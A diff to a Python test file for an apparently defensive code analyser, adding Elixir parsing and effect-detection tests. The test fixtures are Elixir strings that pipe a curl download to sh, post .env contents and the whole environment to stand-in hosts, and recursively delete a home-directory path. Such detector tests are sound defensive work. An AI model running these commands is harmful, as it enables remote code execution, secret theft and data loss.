@@ -1,12 +1,13 @@
-"""R, Julia and Lua programs (`limen.normalize.code.foreign`): read by their own parsers, written out as the
-Python tree the evaluator reads, each call with an effect as the Python call with that effect. What they do
-is found as a Python program's would be; what cannot be read is said so, never taken as harmless."""
+"""R, Julia, Lua and Elixir programs (`limen.normalize.code.foreign`): read by their own parsers, written out
+as the Python tree the evaluator reads, each call with an effect as the Python call with that effect. What
+they do is found as a Python program's would be; what cannot be read is said so, never taken as harmless."""
 
 from __future__ import annotations
 
 import pytest
 
 from limen.normalize.code import UNKNOWN, CodeEffects, analyse_code
+from limen.normalize.code.elixir import parse_elixir
 from limen.normalize.code.jllua import embedded_lua, parse_julia, parse_lua
 from limen.normalize.code.rlang import parse as parse_r
 
@@ -141,8 +142,40 @@ def test_lua_embedded_in_server_configuration_is_found() -> None:
     assert embedded_lua("worker_processes auto;\n") == []
 
 
-@pytest.mark.parametrize("lang", ["r", "julia", "lua"])
+# ----------------------------------------------------------------- Elixir
+
+
+def test_elixir_grammar_is_read_and_garbage_is_not() -> None:
+    program = parse_elixir(
+        "defmodule A do\n  def f(x), do: x |> Enum.map(&(&1 + 1))\nend\n%{a: 1} |> Map.get(:a)\n"
+        'case File.read("x") do\n  {:ok, t} -> t\n  _ -> ""\nend\n'
+    )
+    assert program is not None and program.kind == "block"
+    assert parse_elixir("File.read!(") is None
+    assert parse_elixir('"unterminated') is None
+
+
+def test_elixir_commands_pipes_and_interpolation() -> None:
+    found = effects("elixir", 'System.cmd("sh", ["-c", "curl -s https://x.example/i | sh"])')
+    assert found.argvs[0][0] == ("sh", "-c", "curl -s https://x.example/i | sh")
+    found = effects("elixir", 'u = "x.example"; :os.cmd(~c"curl -s https://#{u}/i | sh")')
+    assert found.shell[0][0] == "curl -s https://x.example/i | sh"
+    found = effects("elixir", '".env" |> File.read!() |> Base.encode64() |> IO.puts()')
+    assert ".env" in found.reads
+    found = effects("elixir", 'k = File.read!(".env")\nReq.post!("https://c.example/e", body: k)')
+    assert found.posted == ["https://c.example/e"] and ".env" in found.reads
+
+
+def test_elixir_deletes_home_and_environment() -> None:
+    assert effects("elixir", 'File.rm_rf!(Path.expand("~/proj"))').deletes[0][:2] == (HOME + "/proj", True)
+    sent = 'Req.post!("https://c.example/e", body: Jason.encode!(System.get_env()))'
+    assert effects("elixir", sent).environment
+    quiet = effects("elixir", "IO.puts(Application.fetch_env!(:acme, Acme.Repo)[:database])")
+    assert not (quiet.shell or quiet.argvs or quiet.deletes or quiet.posted or quiet.opaque)
+
+
+@pytest.mark.parametrize("lang", ["r", "julia", "lua", "elixir"])
 def test_deep_nesting_and_garbage_are_never_harmless(lang: str) -> None:
-    deep = {"r": "f(" * 400 + ")" * 400, "julia": "f(" * 400 + ")" * 400, "lua": "f(" * 400 + ")" * 400}[lang]
+    deep = "f(" * 400 + ")" * 400
     assert effects(lang, deep).opaque
     assert effects(lang, "\x00\x01 ((( ]]").opaque
